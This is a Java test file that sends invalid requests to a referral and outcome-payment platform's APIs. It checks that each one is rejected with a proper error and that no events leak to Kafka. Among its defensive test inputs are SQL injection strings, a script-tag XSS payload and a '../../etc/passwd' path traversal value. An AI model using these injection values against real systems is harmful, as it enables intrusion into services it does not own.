    k.json(with(b, "kind", "SPLW"), 400, "kind", "an unknown kind of service");
    k.json(with(b, "practices", raw("[\"D82044\"]")), 400, "practices", "practices for a community service");
    k.json(with(b, "practices", "D82044"), 400, "practices", "practices as a string");
    k.json(with(with(b, "kind", "LINK_WORKER"), "practices", raw("[\"D82044\", \"QMM\"]")), 400, "practices[1]",
        "an ICB among the practices");
    k.json(with(b, "kind", "LINK_WORKER"), 400, "practices", "a link worker service for no practice");
    k.json(with(with(without(b, "commissioners"), "kind", "LINK_WORKER"), "practices", raw("[\"D82044\"]")), 403, "kind",
        "a provider making its service the link worker service for a practice");
    k.json(with(b, "serviceId", "corpus-other"), 400, "serviceId", "a service id in the body");
    k.common("service", b);
    k.path = "/providers/" + PROVIDER + "/services/Corpus_Second";
    k.json(b, 400, "serviceId", "a bad service id in the path");
    k.path = "/providers/" + PROVIDER + "/services/" + OTHER_SERVICE;
    k.json(b, 400, "serviceId", "another provider's service");
    k.path = "/providers/corpus-nobody/services/corpus-second";
    k.json(b, 404, "corpus-nobody", "an unknown provider");
  }

  /** A provider's decisions on a referral it holds as an offer (so that a request let through would be seen). */
  private void decisions(Corpus k) {
    k.service = "provider-service";
    k.method = "POST";
    String at = "/providers/" + PROVIDER + "/referrals/" + offered + "/";
    String swemwbs = "{\"instrument\": \"SWEMWBS\", \"stage\": \"BASELINE\", \"answers\": [2, 2, 3, 2, 2, 3, 2]}";
    String measures = "{\"measures\": [" + swemwbs + "]}";

    k.path = at + "accept";
    k.json(with(measures, "measures[0].stage", "FOLLOW_UP"), 400, "measures[0].stage", "a follow-up at acceptance");
    k.json(with(measures, "measures[0].instrument", "BOGUS"), 400, "measures[0].instrument", "an unknown instrument");
    k.json(with(measures, "measures[0].answers", raw("[2, 2, 3, 2, 2, 3]")), 400, "measures[0].answers", "6 answers of 7");
    k.json(with(measures, "measures[0].answers[3]", 9), 400, "measures[0].answers[3]", "an answer of 9");
    k.json(with(measures, "measures[0].answers[3]", -1), 400, "measures[0].answers[3]", "an answer of -1");
    k.json(with(measures, "measures[0].answers[3]", raw("2147483648")), 400, "measures[0].answers[3]", "an answer beyond an int");
    k.json(with(measures, "measures[0].answers[3]", "two"), 400, "measures[0].answers[3]", "an answer as a word");
    k.json(with(measures, "measures[0].answers[3]", raw("2.5")), 400, "measures[0].answers[3]", "half an answer");
    k.json(with(measures, "measures[0].answers[3]", raw("null")), 400, "measures[0].answers[3]", "a missing answer");
    k.json(with(measures, "measures[0].directAnswer", 3), 400, "measures[0].directAnswer", "a direct answer to SWEMWBS");
    k.json("{\"measures\": [{\"instrument\": \"UCLA3\", \"stage\": \"BASELINE\", \"answers\": [1, 2, 3], \"directAnswer\": 7}]}",
        400, "measures[0].directAnswer", "a UCLA-3 direct answer of 7");
    k.json("{\"measures\": [" + swemwbs + ", " + swemwbs + "]}", 400, "measures[1]", "SWEMWBS baseline twice");
    k.json("{\"measures\": [null]}", 400, "measures[0]", "a null measure");
    k.json("{\"measures\": \"SWEMWBS\"}", 400, "measures", "measures as a string");
    k.json("{\"measures\": [" + (swemwbs + ",").repeat(999) + swemwbs + "]}", 400, "measures", "1,000 measures");
    k.json("{\"note\": \"" + "n".repeat(100_000) + "\"}", 400, "note", "a 100,000-character note");
    k.json("{\"note\": \"ok\\u0000\"}", 400, "note", "NUL in the note");
    k.json("{\"note\": {\"text\": \"ok\"}}", 400, "note", "note as an object");
    k.json("{\"signedBy\": \"corpus\"}", 400, "signedBy", "an extra field");
    k.common("acceptance", measures, true);

    k.path = at + "decline";
    k.json("{}", 400, "reason", "no reason");
    k.json("{\"reason\": \"EXPIRED\"}", 400, "reason", "a reason only the clock may give");
    k.json("{\"reason\": \"capacity\"}", 400, "reason", "a lower-case reason");
    k.json("{\"reason\": \"UNKNOWN\"}", 400, "reason", "UNKNOWN");
    k.json("{\"reason\": 1}", 400, "reason", "the reason as a number");
    k.json("{\"reason\": \"CAPACITY' OR 1=1--\"}", 400, "reason", "SQL as the reason");
    k.json("{\"reason\": \"CAPACITY\", \"note\": \"" + "n".repeat(100_000) + "\"}", 400, "note", "a 100,000-character note");
    k.json("{\"reason\": \"CAPACITY\", \"note\": \"full\\u001b[2J\"}", 400, "note", "an ANSI escape in the note");
    k.json("{\"reason\": \"CAPACITY\", \"nextProvider\": \"corpus-elsewhere\"}", 400, "nextProvider", "an extra field");
    k.common("decline", "{\"reason\": \"CAPACITY\"}");

    k.path = at + "sessions";
    k.json("{}", 400, "attendedOn", "no date");
    k.json("{\"attendedOn\": \"\"}", 400, "attendedOn", "an empty date");
    k.json("{\"attendedOn\": \"" + LocalDate.now().plusDays(1) + "\"}", 400, "attendedOn", "tomorrow");
    k.json("{\"attendedOn\": \"2999-01-01\"}", 400, "attendedOn", "in 2999");
    k.json("{\"attendedOn\": \"1899-12-31\"}", 400, "attendedOn", "before 1900");
    k.json("{\"attendedOn\": \"0001-01-01\"}", 400, "attendedOn", "in year 1");
    k.json("{\"attendedOn\": \"2026-02-30\"}", 400, "attendedOn", "30 February");
    k.json("{\"attendedOn\": \"18/11/2026\"}", 400, "attendedOn", "a British date");
    k.json("{\"attendedOn\": 20261118}", 400, "attendedOn", "the date as a number");
    k.json("{\"attendedOn\": \"" + LocalDate.now() + "\", \"attended\": \"maybe\"}", 400, "attended", "attended as a word");
    k.json("{\"attendedOn\": \"" + LocalDate.now() + "\", \"measures\": [" + swemwbs.replace("BASELINE", "FOLLOW_UP") + "]}",
        400, "measures[0].stage", "a follow-up at a session");
    k.json("{\"attendedOn\": \"" + LocalDate.now() + "\", \"room\": 4}", 400, "room", "an extra field");
    k.common("session", "{\"attendedOn\": \"" + LocalDate.now() + "\"}");

    k.path = at + "complete";
    k.json("{\"measures\": []}", 400, "completion", "no completion");
    k.json("{\"completion\": \"FINISHED\"}", 400, "completion", "an unknown completion");
    k.json("{\"completion\": \"UNKNOWN\"}", 400, "completion", "UNKNOWN");
    k.json("{\"completion\": \"COMPLETED\", \"measures\": [{\"instrument\": \"ONS4\", \"stage\": \"FOLLOW_UP\", "
        + "\"answers\": [1, 2, 3, 4, 5]}]}", 400, "measures[0].answers", "5 ONS4 answers");
    k.json("{\"completion\": \"COMPLETED\", \"measures\": [{\"instrument\": \"WEMWBS\", \"stage\": \"FOLLOW_UP\", "
        + "\"answers\": [1, 2, 3, 4, 5, 1, 2, 3, 4, 5, 1, 2, 3, 6]}]}", 400, "measures[0].answers[13]", "a WEMWBS answer of 6");
    k.json("{\"completion\": \"COMPLETED\", \"measures\": [{\"instrument\": \"SWEMWBS\", \"stage\": \"LATER\", "
        + "\"answers\": [2, 2, 3, 2, 2, 3, 2]}]}", 400, "measures[0].stage", "an unknown stage");
    k.json("{\"completion\": \"COMPLETED\", \"measures\": {\"SWEMWBS\": [2, 2, 3, 2, 2, 3, 2]}}", 400, "measures",
        "measures as an object");
    k.json("{\"completion\": \"COMPLETED\", \"measures\": [{\"instrument\": \"SWEMWBS\", \"stage\": \"FOLLOW_UP\", "
        + "\"answers\": [" + "3,".repeat(99_999) + "3]}]}", 400, "measures[0].answers", "100,000 answers");
    k.json("{\"completion\": \"COMPLETED\", \"paid\": true}", 400, "paid", "an extra field");
    k.common("completion", "{\"completion\": \"COMPLETED\"}");

    k.path = at + "time-credits";
    String today = LocalDate.now().toString();
    k.json("{\"hours\": 2}", 400, "givenOn", "no date");
    k.json("{\"givenOn\": \"" + LocalDate.now().plusDays(2) + "\", \"hours\": 2}", 400, "givenOn", "in two days");
    k.json("{\"givenOn\": \"1899-01-01\", \"hours\": 2}", 400, "givenOn", "before 1900");
    k.json("{\"givenOn\": \"" + today + "\"}", 400, "hours", "no hours");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": 0}", 400, "hours", "0 hours");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": -1}", 400, "hours", "-1 hours");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": 25}", 400, "hours", "25 hours in a day");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": 1.234}", 400, "hours", "hours to 3 places");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": 1e400}", 400, "hours", "1e400 hours");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": 1e-400}", 400, "hours", "1e-400 hours");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": \"two\"}", 400, "hours", "hours as a word");
    // the JSON reader refuses a number this long before it knows the field: the problem names the number
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": " + "9".repeat(2_000) + "}", 400, "number", "a 2,000-digit number");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": 2, \"activity\": \"" + "a".repeat(100_000) + "\"}", 400, "activity",
        "a 100,000-character activity");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": 2, \"activity\": \"garden\\u0000\"}", 400, "activity",
        "NUL in the activity");
    k.json("{\"givenOn\": \"" + today + "\", \"hours\": 2, \"credits\": 100}", 400, "credits", "an extra field");
    k.common("time credits", "{\"givenOn\": \"" + today + "\", \"hours\": 2}");

    // a link worker's prescription: checked before the offer's decider says this provider is no link worker service
    k.path = at + "prescriptions";
    k.json("{}", 400, "needs", "a prescription for no needs");
    k.json("{\"needs\": []}", 400, "needs", "an empty list of needs");
    k.json("{\"needs\": [\"GARDENING\"]}", 400, "needs[0]", "an unknown need");
    k.json("{\"needs\": [\"UNKNOWN\"]}", 400, "needs[0]", "the UNKNOWN need");
    k.json("{\"needs\": [" + "\"NATURE\",".repeat(99) + "\"NATURE\"]}", 400, "needs", "100 needs");
    k.json("{\"needs\": \"NATURE\"}", 400, "needs", "needs as a string");
    k.json("{\"needs\": [\"NATURE\"], \"serviceId\": \"../../etc/passwd\"}", 400, "serviceId", "a path as the service");
    k.json("{\"needs\": [\"NATURE\"], \"serviceId\": \"corpus-no-such-service\"}", 400, "serviceId", "a service not listed");
    k.json("{\"needs\": [\"NATURE\"], \"urgent\": true}", 400, "urgent", "an extra field");
    k.json("{\"needs\": [\"NATURE\"]}", 400, "Idempotency-Key", "a prescription without an Idempotency-Key");
    k.common("prescription", "{\"needs\": [\"NATURE\"]}");

    k.path = "/providers/" + PROVIDER + "/referrals/" + UUID.randomUUID() + "/accept";
    k.json("{}", 404, "no referral", "a referral never offered");
    k.path = "/providers/" + PROVIDER + "/referrals/not-a-referral/decline";
    k.json("{\"reason\": \"CAPACITY\"}", 404, "no referral", "a referral id that is not a UUID");
  }

  /** PUT /commissioners/{c}/contracts/{id}. */
  private void contracts(Corpus k) {
    k.service = "outcome-service";
    k.method = "PUT";
    k.path = "/commissioners/" + COMMISSIONER + "/contracts/corpus-second";
    String b = """
        {"providerId": "corpus-befrienders", "validFrom": "2026-04-01", "validTo": "2027-03-31",
         "engagementFee": 50.00, "completionFee": 150.00, "completionMinSessions": 2}""";
    for (String field : List.of("providerId", "validFrom", "validTo")) {
      k.json(without(b, field), 400, field, "no " + field);
    }
    k.json(without(without(b, "engagementFee"), "completionFee"), 400, "engagementFee", "nothing paid");
    k.json(with(b, "bonus", 10), 400, "bonus", "an extra field");
    k.json(with(b, "validTo", "2026-03-31"), 400, "validTo", "ends before it starts");
    k.json(with(b, "validFrom", "2026-13-01"), 400, "validFrom", "month 13");
    k.json(with(b, "validFrom", "1899-04-01"), 400, "validFrom", "before 1900");
    k.json(with(b, "validTo", "+10000-03-31"), 400, "validTo", "in the year 10000");
    k.json(with(b, "validFrom", 20260401), 400, "validFrom", "the date as a number");
    k.json(with(b, "engagementFee", -1), 400, "engagementFee", "a negative fee");
    k.json(with(b, "engagementFee", raw("50.001")), 400, "engagementFee", "a fee to 3 places");
    k.json(with(b, "engagementFee", raw("100000.01")), 400, "engagementFee", "a fee over 100,000");
    k.json(with(b, "engagementFee", raw("1e400")), 400, "engagementFee", "a fee of 1e400");
    k.json(with(b, "engagementFee", raw("1" + "0".repeat(2_000))), 400, "number", "a 2,001-digit fee");
    k.json(with(b, "engagementFee", "fifty"), 400, "engagementFee", "a fee as a word");
    k.json(with(b, "engagementFee", raw("NaN")), 400, "body", "NaN as a fee");
    k.json(with(b, "completionMinSessions", -1), 400, "completionMinSessions", "-1 sessions");
    k.json(with(b, "completionMinSessions", Integer.MAX_VALUE), 400, "completionMinSessions", "2,147,483,647 sessions");
    k.json(with(b, "completionMinSessions", raw("2147483648")), 400, "completionMinSessions", "sessions beyond an int");
    k.json(with(b, "outcomePayment", 100), 400, "outcomeInstrument", "an outcome payment for no measure");
    k.json(with(with(with(b, "outcomePayment", 100), "outcomeInstrument", "SWEMWBS"), "outcomeThreshold", 0), 400,
        "outcomeThreshold", "a threshold of 0");
    k.json(with(with(with(b, "outcomePayment", 100), "outcomeInstrument", "SWEMWBS"), "outcomeThreshold", 1000), 400,
        "outcomeThreshold", "a threshold of 1000");
    k.json(with(b, "currency", "EUR"), 400, "currency", "euros");
    k.json(with(b, "currency", "gbp"), 400, "currency", "lower-case pounds");
    k.json(with(b, "providerId", "corpus-befrienders\u0000"), 400, "providerId", "NUL in the provider");
    k.json(with(b, "providerId", "P".repeat(100_000)), 400, "providerId", "a 100,000-character provider");
    k.json(with(b, "providerId", "<script>alert(1)</script>"), 400, "providerId", "a script as the provider");
    k.json(with(b, "serviceIds", raw("[\"' OR 1=1--\"]")), 400, "serviceIds[0]", "SQL as a service");
    k.json(with(b, "serviceIds", raw("[null]")), 400, "serviceIds[0]", "a null service");
    k.json(with(b, "grant", "yes"), 400, "grant", "grant as a word");
    k.common("contract", b);
    k.path = "/commissioners/" + COMMISSIONER + "/contracts/x";
    k.json(b, 400, "contractId", "a 1-character contract id");
    k.path = "/commissioners/" + COMMISSIONER + "/contracts/" + "c".repeat(65);
    k.json(b, 400, "contractId", "a 65-character contract id");
    k.path = "/commissioners/QCPX/contracts/corpus-second";
    k.json(b, 400, "code", "a 4-character commissioner");
    k.path = "/commissioners/" + OTHER_COMMISSIONER + "/contracts/" + CONTRACT;
    k.json(b, 400, "contractId", "another commissioner's contract");
  }

  /** PUT /commissioners/{c}/budgets/{year}. */
  private void budgets(Corpus k) {
    k.service = "outcome-service";
    k.method = "PUT";
    String year = Funding.financialYear(java.time.Instant.now());
    k.path = "/commissioners/" + COMMISSIONER + "/budgets/" + year;
    String b = "{\"amount\": 250000.00, \"currency\": \"GBP\"}";
    k.json(without(b, "amount"), 400, "amount", "no amount");
    k.json(with(b, "amount", raw("null")), 400, "amount", "amount null");
    k.json(with(b, "amount", -1), 400, "amount", "a negative budget");
    k.json(with(b, "amount", raw("0.001")), 400, "amount", "a tenth of a penny");
    k.json(with(b, "amount", raw("1000000000.01")), 400, "amount", "over a billion");
    k.json(with(b, "amount", raw("1e999999999")), 400, "amount", "1e999999999");
    k.json(with(b, "amount", raw("-1e-999999999")), 400, "amount", "-1e-999999999");
    k.json(with(b, "amount", "lots"), 400, "amount", "the amount as a word");
    k.json(with(b, "amount", raw("{\"pounds\": 250000}")), 400, "amount", "the amount as an object");
    k.json(with(b, "amount", raw("Infinity")), 400, "body", "Infinity");
    k.json(with(b, "currency", "EUR"), 400, "currency", "euros");
    k.json(with(b, "currency", "GBP\u0000"), 400, "currency", "NUL after the currency");
    k.json(with(b, "approvedBy", "corpus"), 400, "approvedBy", "an extra field");
    k.common("budget", b);
    for (String bad : List.of("2026-28", "2026", "26-27", "2026_27", "1899-00", "9999-00", "0000-01")) {
      k.path = "/commissioners/" + COMMISSIONER + "/budgets/" + bad;
      k.json(b, 400, "financialYear", "the year " + bad);
    }
    k.path = "/commissioners/QCPX/budgets/" + year;
    k.json(b, 400, "code", "a 4-character commissioner");
  }

  /** Query parameters and ids of the GETs. */
  private void queries(Corpus k) {
    k.method = "GET";
    k.service = "provider-service";
    for (String status : List.of("BOGUS", "offered", "UNKNOWN", "", "%00", "OFFERED%27%20OR%201%3D1--", "%D0%9E%D0%A4")) {
      k.path = "/providers/" + PROVIDER + "/referrals?status=" + status;
      k.none(400, "status", "?status=" + status);
    }
    k.service = "outcome-service";
    String c = "/commissioners/" + COMMISSIONER;
    for (String year : List.of("2026-28", "abc", "2026/27", "%3Cscript%3E", "1899-00", "9999-00")) {
      k.path = c + "/budget?year=" + year;
      k.none(400, "year", "?year=" + year);
    }
    for (String from : List.of("2026-13-01", "yesterday", "01/04/2026", "2026-02-30", "99999-01-01")) {
      k.path = c + "/summary/breakdown?from=" + from;
      k.none(400, "from", "?from=" + from);
    }
    k.path = c + "/summary/breakdown?from=2026-06-01&to=2026-05-01";
    k.none(400, "to", "?to before ?from");
    for (String by : List.of("planet", "%E2%80%8Bprovider", "%3Cscript%3E")) {
      k.path = c + "/summary/breakdown?by=" + by;
      k.none(400, "by", "?by=" + by);
    }
    for (String month : List.of("2026-13", "26-04", "2026-4", "%00")) {
      k.path = c + "/statements?month=" + month;
      k.none(400, "month", "?month=" + month);
    }
    k.path = c + "/statements";
    k.none(400, "month", "no ?month");
    k.service = "referral-service";
    for (String id : List.of("not-a-uuid", UUID.randomUUID().toString(), "%27%20OR%201%3D1--")) {
      k.path = "/referrals/" + id;
      k.none(404, "no referral", "GET /referrals/" + id);
    }
  }

  /** The table being built, with the endpoint the next cases go to. */
  static final class Corpus {
    final List<Case> cases = new ArrayList<>();
    String service;
    String method;
    String path;
    String contentType;
    boolean idempotent;

    void json(String body, int status, String names, String what) {
      bytes(stamped(body.getBytes(StandardCharsets.UTF_8), cases.size() + 1), status, names, what);
    }

    void raw(String body, int status, String names, String what) {
      json(body, status, names, what);
    }

    void bytes(byte[] body, int status, String names, String what) {
      add(contentType == null ? "application/json" : contentType, () -> body, status, names, what);
    }

    /** The body, with each case's own FHIR identifier, so that whatever it became would be its own referral. */
    private static byte[] stamped(byte[] body, int n) {
      return new String(body, StandardCharsets.UTF_8).replace("\"corpus-fhir\"", "\"corpus-fhir-" + n + "\"")
          .getBytes(StandardCharsets.UTF_8);
    }

    void none(int status, String names, String what) {
      add(null, null, status, names, what);
    }

    /** What every endpoint with a JSON body gets: malformed JSON, the wrong content types, and over 1 MB. */
    void common(String what, String valid) {
      common(what, valid, false);
    }

    /** The same; {@code bodyOptional}: the endpoint takes no body as "nothing to add", so no body is not a case. */
    void common(String what, String valid, boolean bodyOptional) {
      String type = contentType;
      json("{", 400, "body", what + ": an unclosed object");
      json("{\"a\": }", 400, "body", what + ": a missing value");
      json("nul", 400, "body", what + ": a broken literal");
      json("{} {}", 400, "body", what + ": two objects");
      json("{'single': 'quotes'}", 400, "body", what + ": single quotes");
      json("{\"a\": 1,}", 400, "body", what + ": a trailing comma");
      json("[".repeat(5_000) + "]".repeat(5_000), 400, "body", what + ": 5,000 nested arrays");
      bytes(new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'}, 400, "body", what + ": invalid UTF-8");
      if (!bodyOptional) json("", 400, "body", what + ": no body");
      contentType = "text/plain";
      json(valid, 415, "text/plain", what + " as text/plain");
      contentType = "application/xml";
      json("<referral/>", 415, "application/xml", what + " as XML");
      contentType = "application/x-www-form-urlencoded";
      json("reason=moved", 415, "application/x-www-form-urlencoded", what + " as a form");
      contentType = "nonsense";
      json(valid, 415, "nonsense", what + " with an unreadable content type");
      contentType = type;
      add(contentType == null ? "application/json" : contentType, () -> padded(valid, MB + 1), 413, "1 MB",
          what + " over 1 MB");
      add(contentType == null ? "application/json" : contentType, () -> padded(valid, 3 * MB), 413, "1 MB",
          what + " of 3 MB");
    }

    private void add(String type, Supplier<byte[]> body, int status, String names, String what) {
      Map<String, String> headers = new LinkedHashMap<>();
      int n = cases.size() + 1;
      if (idempotent) headers.put("Idempotency-Key", "corpus-" + n);
      cases.add(new Case(n, service, method, path, type, body, headers, status, names, what));
    }
  }

  /** A valid body made over a size by a long string in a field of its own. */
  static byte[] padded(String valid, int size) {
    ObjectNode node = (ObjectNode) JSON.readTree(valid);
    node.put("corpusPadding", "p".repeat(size));
    return node.toString().getBytes(StandardCharsets.UTF_8);
  }

  // ---------------------------------------------------------------------------------------------
  // JSON bodies changed one field at a time

  /** Raw JSON text, put in place of a value as written. */
  record Raw(String json) {}

  static Raw raw(String json) {
    return new Raw(json);
  }

  /** The body with the value at a path ("patient.givenName", "services[0].capacity") set, adding it if need be. */
  static String with(String body, String path, Object value) {
    JsonNode root = JSON.readTree(body);
    String placeholder = "@@corpus-raw-value@@";
    JsonNode node = value instanceof Raw ? NODES.stringNode(placeholder) : JSON.valueToTree(value);
    put(root, path, node);
    String written = root.toString();
    return value instanceof Raw r ? written.replace("\"" + placeholder + "\"", r.json()) : written;
  }

  static String without(String body, String path) {
    JsonNode root = JSON.readTree(body);
    List<Object> steps = steps(path);
    JsonNode parent = walk(root, steps.subList(0, steps.size() - 1));
    Object last = steps.get(steps.size() - 1);
    if (last instanceof Integer i) ((ArrayNode) parent).remove(i);
    else ((ObjectNode) parent).remove((String) last);
    return root.toString();
  }

  private static void put(JsonNode root, String path, JsonNode value) {
    List<Object> steps = steps(path);
    JsonNode parent = walk(root, steps.subList(0, steps.size() - 1));
    Object last = steps.get(steps.size() - 1);
    if (last instanceof Integer i) {
      ArrayNode array = (ArrayNode) parent;
      if (i < array.size()) array.set(i, value);
      else array.add(value);
    } else {
      ((ObjectNode) parent).set((String) last, value);
    }
  }

  private static JsonNode walk(JsonNode root, List<Object> steps) {
    JsonNode node = root;
    for (Object step : steps) {
      node = step instanceof Integer i ? node.get(i) : node.get((String) step);
      if (node == null) throw new IllegalArgumentException("no " + step + " in the body");
    }
    return node;
  }

  /** "services[0].needs[1]" as services, 0, needs, 1. */
  private static List<Object> steps(String path) {
    List<Object> steps = new ArrayList<>();
    for (String part : path.split("\\.")) {
      int bracket = part.indexOf('[');
      steps.add(bracket < 0 ? part : part.substring(0, bracket));
      while (bracket >= 0) {
        int close = part.indexOf(']', bracket);
        steps.add(Integer.parseInt(part.substring(bracket + 1, close)));
        bracket = part.indexOf('[', close);
      }
    }
    return steps;
  }

  // ---------------------------------------------------------------------------------------------
  // sending and judging

  private static Answer send(HttpClient http, Case c) {
    String rawPath = c.path().contains("?") ? c.path().substring(0, c.path().indexOf('?')) : c.path();
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(platform.baseUrl(c.service()) + c.path()))
        .timeout(Duration.ofSeconds(60));
    String token = OwnerTokens.tokenFor(rawPath);
    if (token != null) request.header("Authorization", "Bearer " + token);
    c.headers().forEach(request::header);
    if (c.contentType() != null) request.header("Content-Type", c.contentType());
    request.method(c.method(), c.body() == null ? HttpRequest.BodyPublishers.noBody()
        : HttpRequest.BodyPublishers.ofByteArray(c.body().get()));
    try {
      HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
      return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""), response.body());
    } catch (IOException e) {
      return new Answer(-1, "", "no answer: " + e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  /** Null if the answer is what the case wants; otherwise what is wrong with it. */
  static String judge(Case c, Answer a) {
    String shown = a.status() + " " + a.contentType() + " " + abbreviate(a.body());
    if (a.status() != c.status()) return "expected " + c.status() + ", got " + shown;
    JsonNode body;
    try {
      body = JSON.readTree(a.body());
    } catch (RuntimeException e) {
      return "not JSON: " + shown;
    }
    if (body == null || !body.isObject()) return "not a JSON object: " + shown;
    String named;
    if (a.contentType().startsWith("application/fhir+json")) {
      if (!"OperationOutcome".equals(body.path("resourceType").asString(""))) return "not an OperationOutcome: " + shown;
      if (!body.path("issue").isArray() || body.path("issue").isEmpty()) return "an OperationOutcome without issues: " + shown;
      StringBuilder text = new StringBuilder();
      for (JsonNode issue : body.path("issue")) {
        if (issue.path("code").asString("").isBlank() || issue.path("diagnostics").asString("").isBlank()) {
          return "an issue without code or diagnostics: " + shown;
        }
        text.append(issue.path("code").asString("")).append(' ').append(issue.path("diagnostics").asString("")).append(' ');
        for (JsonNode expression : issue.path("expression")) text.append(expression.asString("")).append(' ');
      }
      named = text.toString();
    } else {
      if (!a.contentType().startsWith("application/problem+json")) return "not problem+json: " + shown;
      if (body.path("status").asInt() != a.status()) return "the problem's status is not the answer's: " + shown;
      if (body.path("detail").asString("").isBlank()) return "a problem without detail: " + shown;
      StringBuilder text = new StringBuilder(body.path("detail").asString("")).append(' ')
          .append(body.path("title").asString("")).append(' ');
      for (JsonNode error : body.path("errors")) {
        if (error.path("field").asString("").isBlank() || error.path("reason").asString("").isBlank()) {
          return "an error without field or reason: " + shown;
        }
        text.append(error.path("field").asString("")).append(' ').append(error.path("reason").asString("")).append(' ');
      }
      named = text.toString();
    }
    if (!named.toLowerCase(Locale.ROOT).contains(c.names().toLowerCase(Locale.ROOT))) {
      return "does not name " + c.names() + ": " + shown;
    }
    return null;
  }

  private static String abbreviate(String body) {
    String flat = body.replace('\n', ' ');
    return flat.length() > 400 ? flat.substring(0, 400) + "..." : flat;
  }

  // ---------------------------------------------------------------------------------------------
  // what the topics hold

  /**
   * Marks of anything the corpus might have caused, as they would be written: its ids and names
   * ("corpus-...", "Corpus ..."), its commissioner codes, its referrals' ids (Idempotency-Keys and
   * FHIR identifiers give each case the referral id it would have become).
   */
  private static Set<String> ourMarks(List<Case> corpus) {
    Set<String> marks = new java.util.HashSet<>(Set.of("corpus", "Corpus", COMMISSIONER, OTHER_COMMISSIONER, offered,
        cancellable));
    for (Case c : corpus) {
      String key = c.headers().get("Idempotency-Key");
      if (key != null) marks.add(ReferralIntake.referralId(OwnerTokens.PRACTICE, key).toString());
    }
    for (Case c : corpus) marks.add(ReferralIntake.referralId(OwnerTokens.PRACTICE, "corpus-fhir-" + c.n()).toString());
    return marks;
  }

  /**
   * Reads what each watched topic got since {@code before}: counts it by topic, and keeps, by
   * topic, partition and offset, each record keyed by or carrying one of the corpus's marks.
   */
  private static void scan(Map<Topic<?>, Map<TopicPartition, Long>> before, Set<String> ours, Map<String, String> emitted,
      Map<String, Integer> counts) {
    for (Topic<?> topic : WATCHED) {
      for (ConsumerRecord<byte[], byte[]> record : recordsSince(topic, before.get(topic))) {
        counts.merge(topic.name(), 1, Integer::sum);
        String text = text(record.key()) + " " + text(record.value());
        ours.stream().filter(text::contains).findFirst().ifPresent(mark -> emitted.put(
            topic.name() + "-" + record.partition() + "@" + record.offset(),
            topic.name() + " key " + text(record.key()) + " (carries " + mark + ")"));
      }
    }
  }

  private static String text(byte[] bytes) {
    return bytes == null ? "" : new String(bytes, StandardCharsets.ISO_8859_1);
  }

  private static KafkaConsumer<byte[], byte[]> consumer() {
    Properties config = new Properties();
    config.put(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, platform.bootstrapServers());
    config.put(ConsumerConfig.ISOLATION_LEVEL_CONFIG, "read_committed");
    config.put(ConsumerConfig.KEY_DESERIALIZER_CLASS_CONFIG, ByteArrayDeserializer.class);
    config.put(ConsumerConfig.VALUE_DESERIALIZER_CLASS_CONFIG, ByteArrayDeserializer.class);
    return new KafkaConsumer<>(config);
  }

  private static List<TopicPartition> partitions(Topic<?> topic) {
    List<TopicPartition> partitions = new ArrayList<>();
    for (int p = 0; p < topic.partitions(); p++) partitions.add(new TopicPartition(topic.name(), p));
    return partitions;
  }

  private static Map<TopicPartition, Long> endOffsets(Topic<?> topic) {
    try (KafkaConsumer<byte[], byte[]> consumer = consumer()) {
      return new HashMap<>(consumer.endOffsets(partitions(topic)));
    }
  }

  /** The records written to a topic since these offsets (committed ones: read_committed). */
  private static List<ConsumerRecord<byte[], byte[]>> recordsSince(Topic<?> topic, Map<TopicPartition, Long> from) {
    List<ConsumerRecord<byte[], byte[]>> records = new ArrayList<>();
    try (KafkaConsumer<byte[], byte[]> consumer = consumer()) {
      List<TopicPartition> partitions = partitions(topic);
      consumer.assign(partitions);
      partitions.forEach(tp -> consumer.seek(tp, from.getOrDefault(tp, 0L)));
      Map<TopicPartition, Long> end = consumer.endOffsets(partitions);
      while (partitions.stream().anyMatch(tp -> consumer.position(tp) < end.get(tp))) {
        consumer.poll(Duration.ofMillis(200)).forEach(records::add);
      }
    }
    return records;
  }
}
